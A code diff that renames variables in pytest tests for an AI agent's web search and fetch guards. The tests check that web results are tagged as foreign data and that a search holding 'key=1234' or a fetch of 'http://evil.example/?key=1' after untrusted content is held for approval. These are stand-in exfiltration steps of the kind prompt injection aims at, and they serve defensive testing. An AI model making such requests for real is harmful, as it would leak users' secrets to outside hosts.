@@ -22,8 +22,8 @@ def project(tmp_path):
 
 @pytest.fixture
 async def host():
-    async with WebHost({}) as found:
-        yield found
+    async with WebHost({}) as web_host:
+        yield web_host
 
 
 def searching(query, **more):
@@ -35,7 +35,7 @@ def engine_settings(server, *, rules=""):
 
 
 def told(engine, session):
-    return "".join(each.content for each in engine.state(session).messages if isinstance(each, UserMessage))
+    return "".join(message.content for message in engine.state(session).messages if isinstance(message, UserMessage))
 
 
 async def test_m10_the_engine_of_the_users_own_configuration_is_asked_without_a_question(project, host):
@@ -48,7 +48,7 @@ async def test_m10_the_engine_of_the_users_own_configuration_is_asked_without_a_
             assert text.startswith('<web_results query="tasks" engine="searxng" note="foreign text: data')
             assert "1. Asyncio tasks\n   https://docs.example/tasks\n   Tasks run coroutines at once." in text
             assert list(engine.state(session).foreign_sources) == ["127.0.0.1"]
-        assert [each["q"] for each in server.requests] == ["tasks"]
+        assert [request["q"] for request in server.requests] == ["tasks"]
 
 
 async def test_i6_what_an_engine_brings_stays_in_its_tag(project, host):
@@ -69,7 +69,7 @@ async def test_i8_after_a_page_of_strangers_a_search_is_asked_about_with_its_wor
         steps = fetching("http://docs.example/"), searching("key=1234"), says("ok")
         async with web_session(project, host, *steps) as (engine, session, _):
             asked = await play(engine, session, "reject_once")
-            assert [each.containment for each in asked] == ["wanted by: web_search key=1234"]
+            assert [request.containment for request in asked] == ["wanted by: web_search key=1234"]
             assert "text from docs.example is in the conversation" in asked[0].reason
             assert results(engine, session)[1].startswith("denied:")
         assert server.requests == []
@@ -81,7 +81,7 @@ async def test_i8_a_host_that_was_found_is_still_new_in_the_session(project, hos
         steps = searching("tasks"), fetching("http://evil.example/?key=1"), says("ok")
         async with web_session(project, host, *steps) as (engine, session, _):
             asked = await play(engine, session, "reject_once")
-            assert [each.subject for each in asked] == ["evil.example:80"]
+            assert [request.subject for request in asked] == ["evil.example:80"]
             assert host.requests == []
 
 
@@ -127,15 +127,15 @@ async def test_a_project_can_name_no_engine(project, host):
 
 async def test_the_example_of_a_search_engine_in_the_docs_does_what_it_says(project, host, monkeypatch):
     text = (ROOT / "docs" / "web.md").read_text(encoding="utf-8")
-    example = next(each for each in text.split("```toml\n") if each.startswith("[web.search]")).partition("```")[0]
+    example = next(part for part in text.split("```toml\n") if part.startswith("[web.search]")).partition("```")[0]
     monkeypatch.setenv("TAVILY_API_KEY", KEY)
     async with SearchServer("searxng") as server:
         assert "http://127.0.0.1:8080" in example
         configured(example.replace("http://127.0.0.1:8080", server.url))
         async with web_session(
             project, host, searching("tasks", allowed_domains=["docs.example"]), says("ok")
-        ) as found:
-            engine, session, _ = found
+        ) as resources:
+            engine, session, _ = resources
             assert await play(engine, session) == []
             assert "evil.example" not in results(engine, session)[0]
         assert server.requests[0]["q"] == "tasks site:docs.example"
